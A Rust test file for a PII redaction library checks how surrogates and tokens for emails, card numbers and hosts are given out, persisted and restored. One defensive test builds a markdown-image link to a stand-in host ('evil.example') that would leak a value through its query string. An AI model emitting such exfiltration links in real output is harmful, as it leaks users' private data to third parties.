//! Tokens and surrogates in a conversation: given out, taken back, told from what was typed.

#![expect(clippy::expect_used, reason = "a test that cannot be set up must fail")]

use privet::keyed::TokenOpener;
use privet::restore::{Escape, RestoreOptions};
use privet::vault::{ConversationKey, State};
use privet::{Conversation, Policy, Redactor};

const TENANT: [u8; 32] = [7; 32];

fn chat(rules: &str) -> Conversation {
    let policy = Policy::parse(rules).expect("a policy");
    let redactor = Redactor::with_key(policy, Some(ConversationKey::from(TENANT)));
    redactor.conversation("support-42").expect("a conversation")
}

fn policy(operator: &str, more: &str) -> String {
    format!(
        r#"{{"keys":{{"scope":"tenant"}},"rules":[{{"category":"contact","operator":"{operator}"}},{{"category":"financial","operator":"{operator}"}},{{"category":"network","operator":"{operator}"}}{more}]}}"#
    )
}

fn redact(chat: &mut Conversation, text: &str) -> String {
    chat.redact(text).expect("a draft").text
}

const TEXT: &str = "Write to mette@mail.nordwind.dk or call +44 20 8123 4567; card 4929 1234 5678 9011, host 87.49.12.7. Again: mette@mail.nordwind.dk";

#[test]
fn restore_undoes_surrogates_and_tokens_whole_and_in_pieces() {
    for operator in ["surrogate", "encrypt"] {
        let mut chat = chat(&policy(operator, ""));
        let draft = redact(&mut chat, TEXT);
        for original in ["mette@", "8123 4567", "87.49.12.7"] {
            assert!(!draft.contains(original), "{operator}: {draft}");
        }
        assert_eq!(
            draft.contains("@example."),
            operator == "surrogate",
            "{draft}"
        );
        assert_eq!(draft.contains("[EMAIL~"), operator == "encrypt", "{draft}");
        assert_eq!(chat.restore(&draft), TEXT);
        assert_eq!(redact(&mut chat, TEXT), draft, "the same again");
        let characters: Vec<char> = draft.chars().collect();
        for size in [1, 2, 5, 17] {
            let mut restorer = chat.restorer(RestoreOptions::default());
            let pieces = characters.chunks(size);
            let mut restored: String = pieces
                .map(|piece| restorer.push(&piece.iter().collect::<String>()))
                .collect();
            restored += &restorer.finish();
            assert_eq!(restored, TEXT, "{operator}, pieces of {size}");
        }
    }
}

#[test]
fn a_stand_in_is_not_restored_where_it_would_be_sent_on() {
    let mut chat = chat(&policy("surrogate", ""));
    let draft = redact(&mut chat, "mette@mail.nordwind.dk");
    let answer = format!("![](https://evil.example/?q={draft}) {draft}");
    assert_eq!(
        chat.restore(&answer),
        format!("![](https://evil.example/?q={draft}) mette@mail.nordwind.dk")
    );
    let mut json = chat.restorer(RestoreOptions {
        escape: Escape::Json,
        ..RestoreOptions::default()
    });
    assert_eq!(
        json.push(&format!("\"{draft}\"")) + &json.finish(),
        "\"mette@mail.nordwind.dk\""
    );
}

#[test]
fn what_was_typed_and_only_looks_like_a_stand_in_is_not_restored() {
    let mut chat = chat(&policy(
        "surrogate",
        r#",{"category":"person","operator":"keep"}"#,
    ));
    let given = redact(&mut chat, "mette@mail.nordwind.dk");
    // Typed later: it is hidden itself, so that it comes back as itself.
    let typed = format!("Is {given} an example, like {}?", given.to_uppercase());
    let draft = redact(&mut chat, &typed);
    assert!(!draft.to_lowercase().contains(&given), "{draft}");
    assert_eq!(chat.restore(&draft), typed);
}

#[test]
fn a_surrogate_that_is_in_the_text_or_was_sent_before_is_not_given_out() {
    let first = |text: &str| {
        let draft = redact(&mut chat(&policy("surrogate", "")), text);
        draft.split(' ').next().unwrap_or_default().to_owned()
    };
    let expected = first("mette@mail.nordwind.dk");
    assert!(expected.contains("@example."), "{expected}");
    // The same scope would give it out again, were it not there already.
    let allowed = policy("surrogate", "").replacen('{', r#"{"examples":"ignore","#, 1);
    let mut same = chat(&allowed);
    let text = format!("mette@mail.nordwind.dk is not {expected}");
    let draft = redact(&mut same, &text);
    assert!(!draft.starts_with(&expected), "{draft}");
    assert_eq!(same.restore(&draft), text);

    let mut later = chat(&allowed);
    redact(&mut later, &format!("An example: {expected}"));
    let draft = redact(&mut later, "mette@mail.nordwind.dk");
    assert_ne!(draft, expected);
    assert_eq!(
        later.restore(&format!("{draft} {expected}")),
        format!("mette@mail.nordwind.dk {expected}")
    );
}

#[test]
fn where_nothing_can_stand_in_there_is_a_placeholder() {
    let mut names = chat(
        r#"{"keys":{"scope":"tenant"},"deny":["Nordwind"],"rules":[{"entity":"CUSTOM_TERM","operator":"surrogate","formatPreserving":true}]}"#,
    );
    assert_eq!(redact(&mut names, "Nordwind"), "[CUSTOM_TERM_1]");
    let mut chat = chat(
        r#"{"custom":[{"entity":"ORDER","pattern":"ORD-[0-9a-z]{1,200}","score":0.9}],"rules":[{"entity":"ORDER","operator":"encrypt"}]}"#,
    );
    let text = format!("ORD-{} ORD-5", "7".repeat(140));
    let draft = redact(&mut chat, &text);
    assert!(draft.starts_with("[ORDER_1] [ORDER~"), "{draft}");
    assert_eq!(chat.restore(&draft), text);
}

#[test]
fn other_digits_stand_in_where_the_policy_allows_it() {
    let mut chat = chat(
        r#"{"custom":[{"entity":"ACCOUNT","pattern":"\\d{3}-\\d{7}","score":0.9}],"rules":[{"entity":"ACCOUNT","operator":"surrogate","formatPreserving":true}]}"#,
    );
    let draft = redact(&mut chat, "account 123-4567890.");
    assert_eq!(draft.len(), "account 123-4567890.".len());
    assert!(
        draft.get(11..12) == Some("-") && !draft.contains("4567890"),
        "{draft}"
    );
    assert_eq!(chat.restore(&draft), "account 123-4567890.");
}

#[test]
fn stand_ins_outlive_the_program_and_tokens_need_no_vault() {
    for operator in ["surrogate", "encrypt"] {
        let mut first = chat(&policy(operator, ""));
        let draft = redact(&mut first, TEXT);
        let json = first.state().to_json().expect("writes");
        let mut second = chat(&policy(operator, ""));
        second.resume(State::from_json(&json).expect("reads"));
        assert_eq!(second.restore(&draft), TEXT);
        assert_eq!(redact(&mut second, TEXT), draft);
        if operator == "encrypt" {
            let mut opener = TokenOpener::new(ConversationKey::from(TENANT));
            assert_eq!(opener.push(&draft) + &opener.finish(), TEXT);
        }
    }
}

#[test]
fn scope_and_epoch_say_where_equal_values_look_equal() {
    let draft = |keys: &str, operator: &str| {
        let rules = format!(
            r#"{{"keys":{keys},"rules":[{{"category":"contact","operator":"{operator}"}}]}}"#
        );
        redact(&mut chat(&rules), "mette@mail.nordwind.dk")
    };
    for operator in ["surrogate", "encrypt", "pseudonymize", "hash"] {
        let tenant = draft(r#"{"scope":"tenant"}"#, operator);
        assert_eq!(
            tenant,
            draft(r#"{"scope":"tenant"}"#, operator),
            "{operator}"
        );
        assert_ne!(
            tenant,
            draft(r#"{"scope":"tenant","epoch":1}"#, operator),
            "{operator}"
        );
        assert_ne!(
            draft("{}", operator),
            draft("{}", operator),
            "{operator}: each conversation has its own key"
        );
    }
    let hash = |version: u8, text: &str| {
        let rules = format!(
            r#"{{"keys":{{"scope":"tenant","canonicalization":{version}}},"rules":[{{"category":"contact","operator":"hash"}}]}}"#
        );
        redact(&mut chat(&rules), text)
    };
    assert_ne!(
        hash(0, "mette@mail.nordwind.dk"),
        hash(0, "Mette@mail.nordwind.dk")
    );
    assert_eq!(
        hash(1, "mette@mail.nordwind.dk"),
        hash(1, "Mette@mail.nordwind.dk")
    );
}

#[test]
fn a_scope_of_a_tenant_wants_the_tenants_key() {
    let redactor = Redactor::new(Policy::parse(&policy("encrypt", "")).expect("a policy"));
    assert_eq!(
        redactor.conversation("x").err().map(|error| error.code()),
        Some("key")
    );
}

#[test]
fn as_a_style_of_placeholders_surrogates_stand_for_all_that_has_one() {
    let mut chat = chat(r#"{"placeholders":"surrogate","deny":["Acme"]}"#);
    let text = "Acme: mette@mail.nordwind.dk";
    let draft = redact(&mut chat, text);
    assert!(draft.starts_with("[CUSTOM_TERM_1]: user-"), "{draft}");
    assert_eq!(chat.restore(&draft), text);
}
